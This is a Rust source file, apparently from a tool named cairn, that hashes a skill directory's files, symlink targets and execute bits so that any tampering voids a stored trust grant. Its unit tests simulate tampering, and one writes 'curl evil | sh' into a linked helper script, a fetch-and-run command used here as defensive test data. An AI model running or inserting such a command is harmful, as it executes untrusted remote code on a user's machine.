//! What trusting a project skill remembers: one hash over its whole directory — the name, kind
//! and content of every entry (hidden ones included; a symlink as its target's name and what it
//! leads to) — so a changed, added, removed or renamed file (the helper script `allowed-tools`
//! names, or a file a link in the skill leads to) voids the grant. Loops through links end at
//! the depth and entry caps.

use std::io::Read as _;
use std::path::Path;

use sha2::Digest as _;

/// Entries hashed at most.
const MAX_ENTRIES: usize = 10_000;
/// Levels below the skill directory walked at most.
const MAX_DEPTH: usize = 16;
/// File bytes hashed at most (a link farm to one big file must not make trust slow).
const MAX_BYTES: u64 = 64 * 1024 * 1024;

/// SHA-256 over the skill directory `dir` as it is now, hex; None when it is past the caps
/// (entries, depth or bytes): part of it would go unchecked, so it is never trusted.
pub fn skill_dir_hash(dir: &Path) -> Option<String> {
    let mut walk = SkillWalk {
        hasher: sha2::Sha256::new(),
        entries: 0,
        bytes: 0,
        cut: false,
    };
    walk.field(b"cairn skill dir v1");
    walk.dir(dir, Path::new(""), 0);
    (!walk.cut).then(|| format!("{:x}", walk.hasher.finalize()))
}

/// Why `skill_dir_hash` gives None, for the user.
pub const TOO_LARGE: &str = "its directory is past what trust checks (10,000 entries, 16 levels, 64 MiB of files, links followed)";

struct SkillWalk {
    hasher: sha2::Sha256,
    entries: usize,
    bytes: u64,
    cut: bool,
}

impl SkillWalk {
    fn field(&mut self, bytes: &[u8]) {
        self.hasher.update((bytes.len() as u64).to_le_bytes());
        self.hasher.update(bytes);
    }

    fn dir(&mut self, dir: &Path, rel: &Path, depth: usize) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            self.field(b"unreadable");
            return;
        };
        let mut entries: Vec<_> = entries.flatten().collect();
        entries.sort_by_key(|e| e.file_name());
        for entry in entries {
            if self.cut {
                return;
            }
            self.entries += 1;
            if self.entries > MAX_ENTRIES {
                self.cut = true;
                return;
            }
            let rel = rel.join(entry.file_name());
            self.field(rel.as_os_str().as_encoded_bytes());
            self.entry(&entry.path(), &rel, depth);
        }
    }

    fn entry(&mut self, path: &Path, rel: &Path, depth: usize) {
        let Ok(meta) = std::fs::symlink_metadata(path) else {
            self.field(b"gone");
            return;
        };
        // A link is hashed as its target's name and as what it leads to: a helper linked from
        // elsewhere in the repository (`run.sh -> ../../../tools/run.sh`) voids the trust when
        // that file changes, though the file itself lies outside the protected places.
        let meta = if meta.file_type().is_symlink() {
            self.field(b"link");
            let target = std::fs::read_link(path).unwrap_or_default();
            self.field(target.as_os_str().as_encoded_bytes());
            match std::fs::metadata(path) {
                Ok(followed) => followed,
                Err(_) => {
                    self.field(b"dangling");
                    return;
                }
            }
        } else {
            meta
        };
        use std::os::unix::fs::PermissionsExt as _;
        let kind = meta.file_type();
        if kind.is_dir() {
            self.field(b"dir");
            if depth >= MAX_DEPTH {
                self.cut = true;
                return;
            }
            self.dir(path, rel, depth + 1);
        } else if kind.is_file() {
            self.field(b"file");
            // The execute bit decides whether a helper runs.
            self.hasher
                .update((meta.permissions().mode() & 0o111).to_le_bytes());
            self.file(path);
        } else {
            // FIFOs and devices are named, never opened (a FIFO would block the walk).
            self.field(b"other");
        }
    }

    fn file(&mut self, path: &Path) {
        let Ok(mut file) = std::fs::File::open(path) else {
            self.field(b"unreadable");
            return;
        };
        let mut buf = vec![0u8; 64 * 1024];
        let mut len: u64 = 0;
        loop {
            match file.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => {
                    self.hasher.update(&buf[..n]);
                    len += n as u64;
                    self.bytes += n as u64;
                    if self.bytes > MAX_BYTES {
                        self.cut = true;
                        return;
                    }
                }
                Err(_) => {
                    self.field(b"unreadable");
                    break;
                }
            }
        }
        // The length after the content: contents never run into the next entry's name.
        self.hasher.update(len.to_le_bytes());
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn any_file_changed_added_renamed_or_made_executable_changes_the_hash() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        std::fs::create_dir_all(d.join("scripts")).unwrap();
        std::fs::write(d.join("SKILL.md"), "---\nname: x\n---\nrun it\n").unwrap();
        std::fs::write(d.join("scripts/run.sh"), "echo ok\n").unwrap();
        let start = skill_dir_hash(d).unwrap();
        assert_eq!(skill_dir_hash(d).unwrap(), start, "stable");
        let mut seen = vec![start.clone()];
        let mut differs = |label: &str| {
            let now = skill_dir_hash(d).unwrap();
            assert!(!seen.contains(&now), "{label}: hash unchanged");
            seen.push(now);
        };
        std::fs::write(d.join("scripts/run.sh"), "echo evil\n").unwrap();
        differs("helper changed");
        std::fs::write(d.join("scripts/extra.py"), "print(1)\n").unwrap();
        differs("file added");
        std::fs::write(d.join(".hidden"), "x").unwrap();
        differs("hidden file added");
        std::fs::rename(d.join("scripts/extra.py"), d.join("scripts/other.py")).unwrap();
        differs("file renamed");
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(
            d.join("scripts/other.py"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        differs("made executable");
        std::os::unix::fs::symlink("/etc/passwd", d.join("link")).unwrap();
        differs("symlink added");
    }

    #[test]
    fn what_a_link_leads_to_is_hashed_and_a_loop_ends() {
        let root = tempfile::tempdir().unwrap();
        let skill = root.path().join("skill");
        let tools = root.path().join("tools");
        std::fs::create_dir_all(&skill).unwrap();
        std::fs::create_dir_all(tools.join("lib")).unwrap();
        std::fs::write(tools.join("run.sh"), "echo ok\n").unwrap();
        std::fs::write(tools.join("lib/helper.py"), "print(1)\n").unwrap();
        std::os::unix::fs::symlink("../tools/run.sh", skill.join("run.sh")).unwrap();
        std::os::unix::fs::symlink("../tools/lib", skill.join("lib")).unwrap();
        let start = skill_dir_hash(&skill).unwrap();
        assert_eq!(skill_dir_hash(&skill).unwrap(), start);
        std::fs::write(tools.join("run.sh"), "curl evil | sh\n").unwrap();
        let linked_file = skill_dir_hash(&skill).unwrap();
        assert_ne!(linked_file, start, "a linked helper changed");
        std::fs::write(tools.join("lib/helper.py"), "import os\n").unwrap();
        assert_ne!(
            skill_dir_hash(&skill).unwrap(),
            linked_file,
            "a file in a linked dir changed"
        );
        std::fs::remove_file(tools.join("run.sh")).unwrap();
        assert_ne!(
            skill_dir_hash(&skill).unwrap(),
            linked_file,
            "a linked helper removed"
        );
        // A loop through a link: the walk ends at the caps, and such a skill is never trusted.
        std::os::unix::fs::symlink(".", skill.join("again")).unwrap();
        assert_eq!(skill_dir_hash(&skill), None);
    }

    #[test]
    fn past_the_byte_budget_nothing_is_trusted() {
        let skill = tempfile::tempdir().unwrap();
        let big = skill.path().join("big.bin");
        let file = std::fs::File::create(&big).unwrap();
        file.set_len(MAX_BYTES / 2 + 1).unwrap();
        assert!(skill_dir_hash(skill.path()).is_some());
        std::os::unix::fs::symlink("big.bin", skill.path().join("again.bin")).unwrap();
        assert_eq!(skill_dir_hash(skill.path()), None);
    }
}
